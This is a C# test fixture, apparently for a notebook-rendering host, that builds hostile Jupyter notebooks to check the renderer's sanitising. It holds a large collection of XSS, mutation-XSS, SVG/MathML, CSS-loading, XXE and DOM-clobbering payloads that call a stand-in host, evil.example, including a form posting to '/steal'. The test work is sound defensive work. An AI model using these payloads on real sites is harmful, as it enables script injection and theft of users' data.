using System.Text.Json.Nodes;
using static NotebookHost.Tests.SiteSample;

namespace NotebookHost.Tests;

/// <summary>
/// Notebooks whose authors want to run a script, leave the machine, or take over the page; <c>PWN</c> is what their
/// scripts would do.
/// </summary>
internal static class HostileNotebooks
{
    private const string Evil = "https://evil.example/";

    // Ways to write what runs or loads in HTML, of which most are tried in Markdown and in outputs.
    private static readonly string[] html =
    [
        "<script>PWN()</script>",
        "<ScRiPt\n>PWN()</sCrIpT\n>",
        "<script src=//evil.example/x.js></script>",
        "<script type=module>PWN()</script>",
        "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\","
            + "\"urls\":[\"https://evil.example/\"]}]}</script>",
        "<img src=x onerror=PWN()>",
        "<img src=x onerror\n=\n'PWN()'>",
        "<img/src=x/onerror=PWN()>",
        "<img \"\"\"><script>PWN()</script>\">",
        "<img src='x' ONERROR = `PWN()`>",
        "<img src=\"javascript:PWN()\">",
        "<img src=data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%20onload='PWN()'/%3E>",
        "<img src=\"data:text/html,<script>PWN()</script>\">",
        "<img srcset=\"https://evil.example/a.png 1x, https://evil.example/b.png 2x\">",
        "<img src=https://evil.example/unquoted.png>",
        "<img src=\"\\\\evil.example\\share\\x.png\">",
        "<img src=\"/\\evil.example/x.png\">",
        "<img src=\"//evil.example/x.png\">",
        "<img src=\"ht\ntps://evil.example/x.png\">",
        "<img src=\" \u0001https://evil.example/x.png\">",
        "<img lowsrc=https://evil.example/a dynsrc=https://evil.example/b longdesc=https://evil.example/c usemap=#m>",
        "<picture><source srcset=https://evil.example/p.png><img alt=p></picture>",
        "<body onload=PWN() background=https://evil.example/bg.png>",
        "<html onmouseenter=PWN()><head><base href=https://evil.example/></head>",
        "<svg onload=PWN()></svg>",
        "<svg><script>PWN()</script></svg>",
        "<svg><script href=https://evil.example/x.js /></svg>",
        "<svg><a xlink:href=\"javascript:PWN()\"><text y=20>click</text></a></svg>",
        "<svg><a><animate attributeName=href values=javascript:PWN() /><text y=20>x</text></a></svg>",
        "<svg><set attributeName=onmouseover to=PWN() /><rect width=9 height=9 /></svg>",
        "<svg><animate onbegin=PWN() attributeName=x dur=1s /></svg>",
        "<svg><foreignObject><iframe src=javascript:PWN()></iframe></foreignObject></svg>",
        "<svg><foreignObject><body xmlns=http://www.w3.org/1999/xhtml onload=PWN()></foreignObject></svg>",
        "<svg><use href=\"https://evil.example/s.svg#x\" /><use xlink:href=\"data:image/svg+xml,"
            + "<svg id=x onload=PWN()>#x\" /></svg>",
        "<svg><image href=https://evil.example/i.png /><image xlink:href=//evil.example/j.png /></svg>",
        "<svg><filter id=f><feImage href=https://evil.example/f.png /></filter>"
            + "<rect filter=\"url(https://evil.example/f.svg#f)\" width=9 height=9 /></svg>",
        "<svg><rect fill=\"url(https://evil.example/p.svg#p)\" mask=\"url('https://evil.example/m.svg#m')\" "
            + "clip-path=\"u\\72l(https://evil.example/c)\" width=9 height=9 /></svg>",
        "<svg><style>@import url(https://evil.example/s.css);rect{fill:url(https://evil.example/p)}</style>"
            + "<rect width=9 height=9 /></svg>",
        "<svg><title><style><a title='</style><img src=x onerror=PWN()>'></style></title></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=PWN()>\">",
        "<svg><desc><![CDATA[</desc><script>PWN()</script>]]></desc></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=PWN()&gt;\">",
        "<math><mtext><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=PWN() src=1>\">",
        "<math href=\"javascript:PWN()\">x</math><math><mi xlink:href=\"javascript:PWN()\">y</mi></math>",
        "<math><annotation-xml encoding=text/html><img src=x onerror=PWN()></annotation-xml></math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=PWN()>",
        "<noscript><p title=\"</noscript><img src=x onerror=PWN()>\">",
        "<noembed><img alt=\"</noembed><img src=x onerror=PWN()>\"></noembed>",
        "<textarea><img alt=\"</textarea><img src=x onerror=PWN()>\"></textarea>",
        "<xmp><p title=\"</xmp><img src=x onerror=PWN()>\"></xmp>",
        "<title><p title=\"</title><img src=x onerror=PWN()>\"></title>",
        "<template><img src=x onerror=PWN()></template><template shadowrootmode=open><script>PWN()</script></template>",
        "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=PWN()>\">",
        "<!--><img src=x onerror=PWN()>-->",
        "<!-- --!><img src=x onerror=PWN()> -->",
        "<![CDATA[><img src=x onerror=PWN()>]]>",
        "<?xml version=1.0?><?php ><img src=x onerror=PWN()>",
        "<iframe src=javascript:PWN()></iframe>",
        "<iframe srcdoc=\"<script>PWN()</script>\"></iframe>",
        "<iframe src=https://evil.example/ name=opener></iframe>",
        "<frameset><frame src=javascript:PWN()></frameset>",
        "<object data=\"data:text/html,<script>PWN()</script>\"></object>",
        "<object data=https://evil.example/o.swf><param name=movie value=https://evil.example/o.swf></object>",
        "<embed src=https://evil.example/e><applet code=https://evil.example/A.class></applet>",
        "<video src=https://evil.example/v.mp4 onerror=PWN() poster=https://evil.example/v.png autoplay></video>"
            + "<audio src=x onerror=PWN()></audio>",
        "<form action=https://evil.example/steal><input name=q autofocus onfocus=PWN()>"
            + "<button formaction=javascript:PWN()>go</button></form>",
        "<form id=f></form><button form=f formaction=https://evil.example/>x</button>"
            + "<input type=image src=https://evil.example/i.png>",
        "<isindex action=javascript:PWN() type=image><keygen autofocus onfocus=PWN()>",
        "<a href=\"javascript:PWN()\">x</a>",
        "<a href=\"JaVaScRiPt:PWN()\">x</a>",
        "<a href=\"java\tscript:PWN()\">x</a>",
        "<a href=\"java&#10;script&colon;PWN()\">x</a>",
        "<a href=\"&#1;javascript:PWN()\">x</a>",
        "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;PWN()\">x</a>",
        "<a href=\"data:text/html,<script>PWN()</script>\">x</a><a href=vbscript:PWN>y</a><a href=blob:null/1>z</a>"
            + "<a href=file:///etc/passwd>f</a><a href=view-source:x>v</a>",
        "<a href=x ping=https://evil.example/ping target=_top onclick=PWN() style=\"position:fixed;inset:0\">"
            + "everywhere</a>",
        "<map name=m><area href=javascript:PWN() shape=default></map>",
        "<base href=https://evil.example/ target=_blank>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
        "<meta http-equiv=refresh content=\"0;url=data:text/html,<script>PWN()</script>\">"
            + "<meta http-equiv=Content-Security-Policy content=\"default-src *\">"
            + "<meta http-equiv=Set-Cookie content=a=b>",
        "<link rel=stylesheet href=https://evil.example/s.css><link rel=prefetch href=https://evil.example/p>"
            + "<link rel=dns-prefetch href=//evil.example><link rel=icon href=https://evil.example/f.ico>"
            + "<link rel=manifest href=https://evil.example/m>",
        "<div style=\"background:url(https://evil.example/bg.png)\">s</div>",
        "<div style=\"background:u\\72 l(https://evil.example/bg.png)\">s</div>",
        "<div style=\"background-image:image-set('https://evil.example/bg.png' 1x);"
            + "list-style:url(//evil.example/l)\">s</div>",
        "<div style=\"--x:url(https://evil.example/v.png);background:var(--x)\">s</div>",
        "<div style=\"width:expression(PWN());behavior:url(https://evil.example/b.htc);"
            + "-moz-binding:url(https://evil.example/x.xml#x)\">s</div>",
        "<div style=\"position:fixed;top:0;left:0;width:100vw;height:100vh;background:red;z-index:9999\">"
            + "over the page</div>",
        "<div style=\"position:absolute;margin:-2000px;transform:scale(99);animation:x 1s infinite\">"
            + "over the page</div>",
        "<style>@import 'https://evil.example/s.css';body{background:url(https://evil.example/bg.png)}</style>",
        "<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}*{font-family:x}</style>",
        "<style>body{display:none}.side,main,#nb\\.main{position:fixed;"
            + "visibility:hidden}html:has(p){opacity:0}:root{--paper:red;--ink:red}</style>",
        "<style>a[href^='h']{background:image(\"https://evil.example/a\")}</style><style></style\n"
            + "><img src=x onerror=PWN()></style>",
        "<style><!--</style><script>PWN()</script>--></style>",
        "<table background=https://evil.example/t.png><td background=https://evil.example/td.png>t</td></table>",
        "<div id=nb.main>shadow</div><a id=nbTheme></a><img name=querySelectorAll>"
            + "<img name=getElementById id=getElementById><form name=body></form><a id=katex></a>"
            + "<a id=Plotly href=x></a><a id=module></a><a id=exports></a><a id=define></a><a id=MathJax></a>",
        "<div class=\"side contents cell js-plotly-plot output skip chart\" data-chart='{\"data\":1}' data-key=d>"
            + "dressed as the page</div>",
        "<dialog open>x</dialog><details ontoggle=PWN() open><summary>s</summary></details>"
            + "<marquee onstart=PWN()>m</marquee><blink>b</blink>",
        "<p contenteditable autofocus onfocus=PWN() tabindex=0 accesskey=x popover>edit</p>"
            + "<button popovertarget=p onclick=PWN()>b</button>",
        "<x onclick=PWN() style=animation-name:x onanimationstart=PWN()>unknown element</x>"
            + "<custom-element is=x onconnected=PWN()></custom-element>",
        "<portal src=https://evil.example/></portal><fencedframe></fencedframe><slot onslotchange=PWN()></slot>"
            + "<bgsound src=javascript:PWN()>",
        "</section></main></body></html><h1>broke out</h1><script>PWN()</script>",
        "</div></div></section></main><main id=nb.main><h1>broke out</h1>",
        "</code></pre></section><plaintext>",
        "<p>\u0000<scr\u0000ipt>PWN()</scr\u0000ipt><img src=x o\u0000nerror=PWN()>",
        "\ufeff<\u2028script>PWN()</script>\u00a0<img\u000bsrc=x\u000conerror=PWN()>",
        "<b x=`<img src=x onerror=PWN()>`>\"'><a title='\"><img src=x onerror=PWN()>'>",
    ];

    private static readonly string[] markdown =
    [
        "# Title \"q\" <script>PWN()</script> &amp; <img src=x onerror=PWN()>?\n\nintro `<script>PWN()</script>`",
        "## <b onmouseover=PWN()>h</b> </a><script>PWN()</script>\n\n## `\"><script>PWN()</script>`\n\n"
            + "## nb.main\n\n## katex",
        "[js](javascript:PWN()) [JS](JaVaScRiPt:PWN()) [sp]( java&#115;cript:PWN()) [tab](java&Tab;script:PWN()) "
            + "[nl](java&NewLine;script:PWN()) <javascript:PWN()>",
        "[data](data:text/html,<script>PWN()</script>) [vb](vbscript:PWN) [blob](blob:x) [file](file:///etc/passwd) "
            + "[unc](\\\\\\\\evil.example\\\\x) [pr](//evil.example/x)",
        "![img](javascript:PWN()) ![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9UFdOKCk+) "
            + "![far](https://evil.example/a.png) ![t](x \"t\\\" onerror=PWN() x=\\\"\")",
        "![\"><script>PWN()</script>](x.png \"\\\">"
            + "<script>PWN()</script>\") [![badge](https://evil.example/b.svg)](https://example.org \"' "
            + "onmouseover=PWN()\")",
        "[a]: javascript:PWN()\n[b]: <https://example.org\"onmouseover=PWN()> '\"><script>PWN()</script>'\n\n"
            + "[a] [b] ![a] ![b]",
        "```\"><script>PWN()</script>\nx\n```\n\n```html onload=PWN()\n<script>PWN()</script>\n```\n\n~~~csharp\n"
            + "// </code></pre><script>PWN()</script>\n~~~",
        "$</span><script>PWN()</script>$ and\n\n$$\n</div><img src=x onerror=PWN()>\n$$\n\n"
            + "$\\href{javascript:PWN()}{x} \\includegraphics{https://evil.example/t.png} "
            + "\\htmlData{onclick=PWN()}{x}$",
        "| a | b |\n|-|-|\n| <script>PWN()</script> | [x](javascript:PWN()) |\n| `|` | <td onclick=PWN()> |",
        "<https://evil.example/\"onmouseover=\"PWN()> https://evil.example/"
            + "<script>PWN()</script> www.evil.example/\"><img/src=x/onerror=PWN()>",
        "[x](attachment:a.png\"><script>PWN()</script>) ![x](attachment:%3Cscript%3EPWN()%3C/script%3E) "
            + "![y](attachment:evil.svg)",
        "<details open ontoggle=PWN()><summary onclick=PWN()>s</summary>\n\n**b** <script>PWN()</script>\n\n</details>",
    ];

    /// <summary>Each of them, with a name: where it stands, and its text.</summary>
    public static IEnumerable<(string Name, JsonObject[] Cells)> All() =>
    [
        .. html.Select(h => ($"in Markdown: {h}", new[]
        {
            Text("# T\n\n" + h + "\n\nafter\n\n> in a quotation " + h.ReplaceLineEndings(" ")),
            Code("after"),
        })),
        .. html.Select(h => ($"in an output: {h}", new[]
        {
            Text("# T"),
            Code(
                "x",
                Shown(("text/html", h)),
                Shown(("text/html", $"<div class=own><table><tr><td>{h}</table></div>"))),
            Code("after"),
        })),
        .. html.Where(h => h.StartsWith("<svg", StringComparison.Ordinal)).Select(h => ($"in an SVG output: {h}", new[]
        {
            Text("# T"),
            Code(
                "x",
                Shown(
                    ("image/svg+xml", Entity + h),
                    ("text/plain", "a drawing"))),
            Code("after"),
        })),
        .. markdown.Select(m => ($"Markdown: {m}", new[] { Text(m), Code("after") })),
        .. markdown.Select(m => ($"Markdown in an output: {m}", new[]
        {
            Text("# T"),
            Code("x", Shown(("text/markdown", m))),
            Code("after"),
        })),
        .. Elsewhere(),
    ];

    private const string Entity =
        "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY e SYSTEM \"https://evil.example/e\">]>";

    private static JsonObject Raw(string source) => new()
    {
        ["cell_type"] = "raw",
        ["id"] = "r",
        ["metadata"] = new JsonObject(),
        ["source"] = source,
    };

    private static IEnumerable<(string, JsonObject[])> Elsewhere()
    {
        const string payload = "\"'></code></pre></section><script>PWN()</script><img src=x onerror=PWN()>";
        yield return ("in code", [Code("// " + payload)]);
        yield return ("in a raw cell", [Raw(payload)]);
        yield return ("in a tag, an id, the language", [Odd()]);
        yield return ("in streams",
        [
            Code(
                "x",
                Printed(payload),
                Printed("✗ " + payload + " `" + payload + "`"),
                Printed(payload, "stderr"),
                Printed(payload, payload)),
        ]);
        const string link = "\u001b]8;;javascript:PWN()\u0007link\u001b]8;;\u0007";
        yield return ("in an error", [Code("x", Thrown(payload, payload, payload, link))]);
        yield return ("in plain text and alternative text",
        [
            Code(
                "x",
                Shown(("text/plain", payload)),
                Shown(("image/png", "UE5H"), ("text/plain", payload)),
                Shown(("image/png", payload))),
        ]);
        JsonObject[] formulas = [Shown(("text/latex", "$$" + payload + "$$")), Shown(("text/latex", payload))];
        yield return ("in LaTeX", [Code("x", formulas)]);
        yield return ("in kinds that no page shows",
        [
            Code(
                "x",
                Shown(("application/javascript", "PWN()"), ("application/vnd.jupyter.widget-view+json", "{}")),
                Shown(("text/vnd.mermaid", payload)),
                Shown((payload, payload))),
        ]);
        string script =
            "var data = [{\"type\":\"bar\",\"y\":[1,2],"
            + "\"text\":\"<a href='javascript:PWN()' onclick=PWN()>x</a>\"}]; "
            + "var layout = {\"title\":\"<img src=x onerror=PWN()>\","
            + $"\"images\":[{{\"source\":\"{Evil}i.png\"}}]}}; PWN(); Plotly.newPlot('c', data, layout);";
        string place = $"<div id=\"c\" style=\"width: 900px; height: 500px;\">{payload}</div>";
        yield return ("in a chart's place", [Code("x", Shown(("text/html", $"{place}<script>{script}</script>")))]);
        const string chart =
            """{"data":[{"type":"scatter","x":[1],"y":[2],"name":"</div><script>PWN()</script>"},"""
            + """{"type":"image","source":"https://evil.example/i.png"}],"layout":"""
            + """{"images":[{"source":"https://evil.example/i.png"}],"template":"""
            + """{"layout":{"images":[{"source":"//evil.example/i.png"}]}}},"config":"""
            + """{"plotlyServerURL":"https://evil.example/"}}""";
        yield return ("in a chart's data", [Code("x", Shown((PlotlyChart.MimeType, chart)))]);
        const string map =
            """{"data":[{"type":"choropleth","locations":["FRA"],"z":[1]}],"layout":{"geo":{}}}""";
        yield return ("in a map", [Code("x", Shown((PlotlyChart.MimeType, map)))]);
        JsonObject withAttachments = Text(
            "![a](attachment:a.png) ![b](attachment:b.png) ![c](attachment:c.svg) ![d](attachment:d.png)");
        withAttachments["attachments"] = new JsonObject
        {
            ["a.png"] = new JsonObject { ["image/png\" onerror=PWN() x=\""] = "UE5H" },
            ["b.png"] = new JsonObject { ["image/png"] = "\"><script>PWN()</script>" },
            ["c.svg"] = new JsonObject { ["image/svg+xml"] = "PHN2ZyBvbmxvYWQ9UFdOKCk+" },
            ["d.png"] = new JsonObject { ["text/html"] = "PHNjcmlwdD5QV04oKTwvc2NyaXB0Pg==" },
        };
        yield return ("in attachments", [withAttachments]);

        static JsonObject Odd()
        {
            JsonObject cell = Tagged(payload, "x");
            cell["id"] = payload;
            cell["metadata"]!["language_info"] = new JsonObject { ["name"] = payload };
            return cell;
        }
    }
}
